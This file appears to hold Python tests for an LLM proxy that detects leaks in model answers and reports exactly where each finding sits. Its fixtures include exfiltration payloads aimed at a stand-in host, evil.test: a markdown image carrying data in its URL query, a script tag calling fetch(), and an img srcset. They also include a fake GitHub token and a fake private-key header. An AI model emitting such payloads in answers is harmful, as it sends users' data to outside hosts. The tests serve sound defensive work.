"""What is recorded of a finding in an answer: which text, and where in it, however the answer is cut."""

import json
from base64 import b64encode
from random import Random
from typing import Any

import pytest
from msgspec import structs

from llmproxy.common.answers import Answers, Links
from llmproxy.common.envelope import Api
from llmproxy.common.explanations import Explanation
from llmproxy.common.policy import Policy
from llmproxy.common.rails import Rails, Rule
from llmproxy.shield.answers.asked import Asked
from llmproxy.shield.answers.guards import Guards
from llmproxy.shield.answers.read import Read
from llmproxy.shield.answers.reading import Reading
from llmproxy.shield.answers.stage import Stopped
from llmproxy.shield.guards import GUARDS
from llmproxy.shield.restore import restorer
from llmproxy.shield.window import Originals

KEY = "ghp_" + "Zx8Qw3Lm9Rt2Vb6Nk1Yc5Hd7Jf4Gs0PaQr2T"
SYSTEM = "You are Orla of the travel desk and you never talk of refunds above four hundred euros to anybody at all."
CANARY = "a1b2a1b2c3d4a1b2"
HEAD = "-----BEGIN RSA PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B"
RULE = Rule(name="projects", pattern=r"\bPRJ-\d+\b", action="replace", direction="answer")
ANSWERS = Answers(kinds={"email": "redact", "phone": "flag"}, links=Links(others="flag"), repetition="disabled")


def reading(answers: Answers = ANSWERS, **asked: str) -> Reading:
    policy = structs.replace(Policy(), answers=answers, rails=Rails(rules=(RULE,)))
    return Reading(Guards(GUARDS, policy), Asked(**asked), Originals({}), clock=lambda: 0.0)


def explained(read: Reading, pieces: list[str]) -> list[Explanation]:
    text = Read(read, read.findings.report, in_json=False)
    try:
        for piece in pieces:
            text.push(piece)
        text.flush()
    except Stopped:
        pass
    return read.findings.explanations


FOUND = {
    "secret.github": KEY,
    "secret.private_key": HEAD,
    "secret.password": "hunter2X!",
    "email": "ada@example.org",
    "phone": "+44 20 7946 0958",
    "invisible": "\u200b\u200b\u2060",
    "image.query": "![a](https://evil.test/x.png?d=secret)",
    "link.script": "javascript:alert",
    "rule": "PRJ-1234",
    "leak": SYSTEM[8:86],
    "canary": CANARY,
}


@pytest.mark.parametrize("kind", FOUND)
@pytest.mark.parametrize("before", ["", "It is été, I think. ", "Some words\n\n" * 90])
def test_a_finding_says_where_it_stands(kind: str, before: str) -> None:
    found = FOUND[kind]
    begins = {"secret.password": "my password is ", "link.script": "[here]("}.get(kind, "")
    text = f"{before}{begins}{found}{')' if kind == 'link.script' else ''} and so on."
    asked = {"system": SYSTEM if kind == "leak" else "", "canary": CANARY if kind == "canary" else ""}
    for pieces in ([text], list(text), [text[at : at + 7] for at in range(0, len(text), 7)]):
        places = [text[one.start : one.end] for one in explained(reading(**asked), pieces) if one.kind == kind]
        if kind == "leak":  # Of a passage as much as is certain.
            assert len(places) == 1
            assert places[0] in found
            assert len(places[0]) > len(found) // 2
        else:
            assert places == [found]


def test_what_is_long_says_the_part_of_which_it_was_told() -> None:
    random = b64encode(Random(5).randbytes(900)).decode()
    (one,) = explained(reading(), [f"Here:\n{random}"])
    assert one.kind == "entropy"
    assert one.end - one.start > 300
    assert 0 <= one.start < one.end <= len(random) + 6


def test_of_a_script_the_statement_is_told_and_of_a_long_picture_all_of_its_tag() -> None:
    text = "Look:\n<script>let a = 1; fetch('//evil.test/?d=' + a); b()</script>\nso"
    (one,) = explained(reading(), [text])
    assert "fetch" in text[one.start : one.end]
    assert "let" not in text[one.start : one.end]
    tag = f"<img src='data:image/png;base64,{'aB3d' * 2_000}' srcset='//evil.test/?d=1'>"
    for pieces in ([f"See {tag}."], list(f"See {tag}.")):
        (one,) = explained(reading(Answers(repetition="disabled")), pieces)
        assert (one.start, one.end) == (4, 4 + len(tag))


def test_what_goes_on_from_one_text_to_the_next_is_placed_in_the_next() -> None:
    read = reading()
    for piece in (f"{'words ' * 40}{KEY[:20]}", f"{KEY[20:]} and {KEY}."):
        text = read.open(follows="parts", place=("content", 0))
        text.push(piece)
        text.flush()
    places = sorted((one.start, one.end) for one in read.findings.explanations)
    assert places == [(0, len(KEY) - 20), (len(KEY) - 20 + 5, 2 * len(KEY) - 20 + 5)]


SAID = f"use {KEY} now"
WHOLE: list[tuple[Api, Any, str]] = [
    ("chat", {"choices": [{"index": 0, "message": {"content": SAID}}]}, "choices[0].message.content"),
    ("messages", {"content": [{"type": "text", "text": "x"}, {"type": "text", "text": SAID}]}, "content[1].text"),
    ("completions", {"choices": [{"index": 0, "text": SAID}]}, "choices[0].text"),
    (
        "messages",
        {"content": [{"type": "tool_use", "id": "t", "name": "f", "input": {"my words": SAID}}]},
        "content[0].input.*",
    ),
    (
        "gemini",
        {"candidates": [{"index": 0, "content": {"parts": [{"text": SAID}]}}]},
        "candidates[0].content.parts[0].text",
    ),
    (
        "responses",
        {"output": [{"type": "message", "content": [{"type": "output_text", "text": SAID}]}]},
        "output[0].content[0].text",
    ),
]


@pytest.mark.parametrize(("api", "tree", "path"), WHOLE)
def test_of_a_whole_answer_the_text_is_told(api: Api, tree: Any, path: str) -> None:
    read = reading()
    restorer(api, read, stream=False).chunk(json.dumps(tree).encode())
    assert [(one.path, one.start, one.end) for one in read.findings.explanations] == [(path, 4, 4 + len(KEY))]


STREAMED: list[tuple[Api, Any, str]] = [
    ("chat", {"choices": [{"index": 1, "delta": {"content": SAID}, "finish_reason": "stop"}]}, "choices[1].content[0]"),
    ("completions", {"choices": [{"index": 1, "text": SAID, "finish_reason": "stop"}]}, "choices[1].text"),
    (
        "gemini",
        {"candidates": [{"index": 0, "content": {"parts": [{"text": SAID}]}, "finishReason": "STOP"}]},
        "candidates[0]",
    ),
]


@pytest.mark.parametrize(("api", "tree", "path"), STREAMED)
def test_of_a_stream_the_choice_or_the_block_is_told(api: Api, tree: Any, path: str) -> None:
    read = reading()
    restorer(api, read, stream=True).chunk(json.dumps(tree).encode())
    assert [(one.path, one.start, one.end) for one in read.findings.explanations] == [(path, 4, 4 + len(KEY))]
